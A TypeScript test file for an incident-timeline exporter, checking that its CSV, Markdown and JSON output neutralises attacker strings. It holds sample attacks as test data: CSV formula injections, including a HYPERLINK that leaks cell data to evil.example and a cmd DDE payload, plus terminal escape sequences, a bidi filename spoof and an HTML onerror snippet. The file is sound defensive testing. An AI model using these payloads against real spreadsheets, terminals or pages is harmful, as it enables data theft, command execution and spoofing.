// The timeline exports: exact columns and values, and the per-format defences against attacker
// strings (event actors, targets, notes quoting them): RFC 4180 quoting and formula injection in
// CSV, table breaks in Markdown, terminal escapes everywhere, and a lossless JSON.

import { describe, expect, it } from 'vitest';
import { timelineCsv, timelineJson, timelineMarkdown, type TimelineItem } from '../../../src/reports/timeline.js';

const CI_ROLE = 'arn:aws:sts::123456789012:assumed-role/ci-deployer/i-0abc123def4567890';

const ITEMS: TimelineItem[] = [
  {
    seq: 1,
    ts: '2026-04-20T14:32:05.123Z',
    kind: 'opened',
    actor: 'alice',
    text: 'Incident INC-2026-042 opened: Anomalous reads',
  },
  { seq: 2, ts: '2026-04-20T14:33:00Z', kind: 'severity', actor: 'alice', text: 'Severity set to Sev1 High' },
  {
    seq: 9,
    ts: '2026-04-20T14:40:10.000Z',
    kind: 'pin',
    actor: 'bob',
    text: `Pinned: GetObject by ${CI_ROLE} on arn:aws:s3:::prod-data/x`,
    eventTime: Date.UTC(2026, 3, 20, 14, 30, 1),
    discoveredAt: Date.UTC(2026, 3, 20, 14, 37, 1, 250),
  },
];

const one = (text: string, actor = 'alice'): TimelineItem[] => [
  { seq: 4, ts: '2026-04-20T14:35:00.000Z', kind: 'note', actor, text },
];

/** A strict RFC 4180 parser (CRLF records, "" escapes), so the tests read CSV as a spreadsheet would. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < csv.length) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
        if (csv[i] !== ',' && csv[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
      } else {
        cell += c;
        i++;
      }
    } else if (c === '"') {
      if (cell !== '') throw new Error(`quote inside an unquoted cell at ${i}`);
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (c === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else if (c === '\n' || c === '\r') {
      throw new Error(`bare line break at ${i}`);
    } else {
      cell += c;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quoted cell');
  if (cell !== '' || row.length) throw new Error('last record not terminated by CRLF');
  return rows;
}

// Terminal-active characters: C0 (but \n, and \r only in CSV line ends), DEL, C1, bidi controls.
const RAW_CONTROL = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const ATTACK = {
  osc: 'role\u001b]0;pwned\u0007name', // OSC: set window title
  csi: 'x\u001b[2J\u001b[1;1Hcleared', // CSI: clear screen, home
  c1: 'a\u009b31mred\u009d8;;http://evil\u009c', // 8-bit CSI, OSC and ST
  bidi: 'user\u202egnp.exe', // RLO: reads as "userexe.png"
  cr: 'safe\rEVIL',
};

describe('timelineCsv', () => {
  it('writes the header and one row per item with the exact values, CRLF-terminated', () => {
    const csv = timelineCsv(ITEMS);
    expect(csv.split('\r\n')).toEqual([
      'seq,time_utc,kind,actor,text,event_time_utc,discovered_utc',
      '1,2026-04-20T14:32:05.123Z,opened,alice,Incident INC-2026-042 opened: Anomalous reads,,',
      '2,2026-04-20T14:33:00Z,severity,alice,Severity set to Sev1 High,,',
      `9,2026-04-20T14:40:10.000Z,pin,bob,Pinned: GetObject by ${CI_ROLE} on arn:aws:s3:::prod-data/x,2026-04-20T14:30:01.000Z,2026-04-20T14:37:01.250Z`,
      '',
    ]);
    expect(parseCsv(csv).map((r) => r.length)).toEqual([7, 7, 7, 7]);
  });

  it('an empty timeline is just the header', () => {
    expect(timelineCsv([])).toBe('seq,time_utc,kind,actor,text,event_time_utc,discovered_utc\r\n');
  });

  it('quotes commas and quotes per RFC 4180 and round-trips them through a parser', () => {
    const text = 'Contained: revoked "ci-deployer" sessions, then rotated keys';
    const csv = timelineCsv(one(text, 'Dana "DW" Whitfield, IC'));
    expect(csv.split('\r\n')[1]).toBe(
      '4,2026-04-20T14:35:00.000Z,note,"Dana ""DW"" Whitfield, IC","Contained: revoked ""ci-deployer"" sessions, then rotated keys",,',
    );
    const rows = parseCsv(csv);
    expect(rows[1]![3]).toBe('Dana "DW" Whitfield, IC');
    expect(rows[1]![4]).toBe(text);
  });

  it('keeps a multi-line note in one record: line breaks are shown, never a raw row break', () => {
    const csv = timelineCsv(one('first line\nsecond line, with comma\r\nthird'));
    // Exactly header + one record: an attacker newline cannot forge extra rows.
    expect(csv.split('\r\n')).toHaveLength(3);
    expect(csv.match(/\n/g)).toHaveLength(2);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(2);
    expect(rows[1]![4]).toBe('first line\u240asecond line, with comma\u240d\u240athird');
    expect(csv.split('\r\n')[1]).toBe(
      '4,2026-04-20T14:35:00.000Z,note,alice,"first line\u240asecond line, with comma\u240d\u240athird",,',
    );
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['=1+1', `'=1+1`],
  ])('defuses a formula cell %j', (attack, cell) => {
    const csv = timelineCsv(one(attack, attack));
    const line = csv.split('\r\n')[1]!;
    expect(line).toBe(`4,2026-04-20T14:35:00.000Z,note,${cell},${cell},,`);
    const rows = parseCsv(csv);
    expect(rows[1]![3]).toBe(`'${attack}`);
    expect(rows[1]![4]).toBe(`'${attack}`);
  });

  it('leaves cells that merely contain formula characters alone', () => {
    const rows = parseCsv(timelineCsv(one('Severity set to Sev0 — score = 9+1 @ 14:30', 'a-b@example.com')));
    expect(rows[1]![3]).toBe('a-b@example.com');
    expect(rows[1]![4]).toBe('Severity set to Sev0 — score = 9+1 @ 14:30');
  });

  it('a tab or CR before a formula cannot smuggle it past the defence', () => {
    const rows = parseCsv(timelineCsv(one('\t=1+1', '\r=1+1')));
    expect(rows[1]![4]).toBe('    =1+1');
    expect(rows[1]![3]).toBe('\u240d=1+1');
  });

  it.each(Object.entries(ATTACK))('does not let %s terminal controls through raw', (_name, attack) => {
    const csv = timelineCsv(one(`note about ${attack}`, attack));
    // CRLF line ends are the only controls left.
    expect(RAW_CONTROL.test(csv.replace(/\r\n/g, ''))).toBe(false);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\r/);
  });

  it('shows each neutralised control as a visible token', () => {
    const rows = parseCsv(timelineCsv(one(`${ATTACK.osc} ${ATTACK.c1} ${ATTACK.bidi}`)));
    expect(rows[1]![4]).toBe(
      'role\u241b]0;pwned\u2407name a<U+009B>31mred<U+009D>8;;http://evil<U+009C> user<U+202E>gnp.exe',
    );
  });
});

describe('timelineMarkdown', () => {
  it('writes a title, a note on time zone, and a six-column table with UTC times', () => {
    const md = timelineMarkdown(ITEMS, 'INC-2026-042 Anomalous reads');
    expect(md.split('\n')).toEqual([
      '# Timeline: INC-2026-042 Anomalous reads',
      '',
      'All times UTC.',
      '',
      '| Time (UTC) | Kind | Who | What | Event time | Discovered |',
      '|---|---|---|---|---|---|',
      '| 2026-04-20 14:32:05 | opened | alice | Incident INC-2026-042 opened: Anomalous reads |  |  |',
      '| 2026-04-20 14:33:00 | severity | alice | Severity set to Sev1 High |  |  |',
      `| 2026-04-20 14:40:10 | pin | bob | Pinned: GetObject by ${CI_ROLE} on arn:aws:s3:::prod-data/x | 2026-04-20 14:30:01 | 2026-04-20 14:37:01 |`,
      '',
    ]);
  });

  it('escapes pipes and backslashes so a cell cannot add columns', () => {
    const md = timelineMarkdown(one('exfil | via | three pipes \\| and C:\\temp\\', 'eve|admin'), 'T | x');
    const lines = md.split('\n');
    expect(lines[0]).toBe('# Timeline: T \\| x');
    expect(lines[6]).toBe(
      '| 2026-04-20 14:35:00 | note | eve\\|admin | exfil \\| via \\| three pipes \\\\\\| and C:\\\\temp\\\\ |  |  |',
    );
    // Unescaped pipes delimit exactly seven times (six columns) on the row.
    expect(lines[6]!.match(/(?<!\\)(?:\\\\)*\|/g)).toHaveLength(7);
  });

  it('keeps a row on one line and escapes HTML', () => {
    const md = timelineMarkdown(one('line one\n| forged | row |\n<img src=x onerror=alert(1)>'), 'T');
    const lines = md.split('\n');
    expect(lines).toHaveLength(8);
    expect(lines[6]).toBe(
      '| 2026-04-20 14:35:00 | note | alice | line one\u240a\\| forged \\| row \\|\u240a&lt;img src=x onerror=alert(1)&gt; |  |  |',
    );
  });

  it.each(Object.entries(ATTACK))('does not let %s terminal controls through raw', (_name, attack) => {
    const md = timelineMarkdown(one(`note about ${attack}`, attack), `title ${attack}`);
    expect(RAW_CONTROL.test(md)).toBe(false);
    expect(md).not.toMatch(/\r/);
  });

  it('shows each neutralised control as a visible token', () => {
    const md = timelineMarkdown(one(`${ATTACK.osc} ${ATTACK.bidi} ${ATTACK.c1}`), 'T');
    expect(md.split('\n')[6]).toBe(
      '| 2026-04-20 14:35:00 | note | alice | role\u241b\\]0;pwned\u2407name user&lt;U+202E&gt;gnp.exe a&lt;U+009B&gt;31mred&lt;U+009D&gt;8;;http:/\\/evil&lt;U+009C&gt; |  |  |',
    );
  });
});

describe('timelineJson', () => {
  it('writes the incident and every item with ISO event times', () => {
    const incident = {
      id: 'INC-2026-042',
      title: 'Anomalous reads',
      codename: 'EMBER QUARTZ',
      openedAt: '2026-04-20T14:32:05.123Z',
    };
    const out = timelineJson(ITEMS, incident);
    expect(out.endsWith('}\n')).toBe(true);
    expect(JSON.parse(out)).toEqual({
      incident,
      timeline: [
        {
          seq: 1,
          ts: '2026-04-20T14:32:05.123Z',
          kind: 'opened',
          actor: 'alice',
          text: 'Incident INC-2026-042 opened: Anomalous reads',
        },
        { seq: 2, ts: '2026-04-20T14:33:00Z', kind: 'severity', actor: 'alice', text: 'Severity set to Sev1 High' },
        {
          seq: 9,
          ts: '2026-04-20T14:40:10.000Z',
          kind: 'pin',
          actor: 'bob',
          text: `Pinned: GetObject by ${CI_ROLE} on arn:aws:s3:::prod-data/x`,
          eventTime: '2026-04-20T14:30:01.000Z',
          discoveredAt: '2026-04-20T14:37:01.250Z',
        },
      ],
    });
    // Items without event times carry no such keys at all.
    expect(Object.keys(JSON.parse(out).timeline[0])).toEqual(['seq', 'ts', 'kind', 'actor', 'text']);
  });

  it.each(Object.entries(ATTACK))(
    'writes %s controls as \\u escapes and parses back to the exact string',
    (_name, attack) => {
      const text = `note about ${attack} and "quotes", commas | pipes\nnewline`;
      const out = timelineJson(one(text, attack), { id: 'INC-2026-042', title: attack });
      expect(RAW_CONTROL.test(out)).toBe(false);
      const parsed = JSON.parse(out) as { incident: { title: string }; timeline: TimelineItem[] };
      expect(parsed.timeline[0]!.text).toBe(text);
      expect(parsed.timeline[0]!.actor).toBe(attack);
      expect(parsed.incident.title).toBe(attack);
    },
  );

  it('uses the exact escape for ESC, BEL, C1 and bidi', () => {
    const out = timelineJson(one(`${ATTACK.osc}|${ATTACK.c1}|${ATTACK.bidi}|\u061c\u2066\u200f\ufeff`), {});
    expect(out).toContain(
      '"text": "role\\u001b]0;pwned\\u0007name|a\\u009b31mred\\u009d8;;http://evil\\u009c|user\\u202egnp.exe|\\u061c\\u2066\\u200f\\ufeff"',
    );
  });

  it('keeps printable non-ASCII as is, and an emoji joiner survives the round trip', () => {
    const text = 'Zoë Müller — 东京 — 🔥';
    const out = timelineJson(one(text), {});
    expect(out).toContain(`"text": "${text}"`);
    expect(JSON.parse(out).timeline[0].text).toBe(text);
    const joined = 'on call: 👩\u200d💻';
    expect(JSON.parse(timelineJson(one(joined), {})).timeline[0].text).toBe(joined);
  });
});
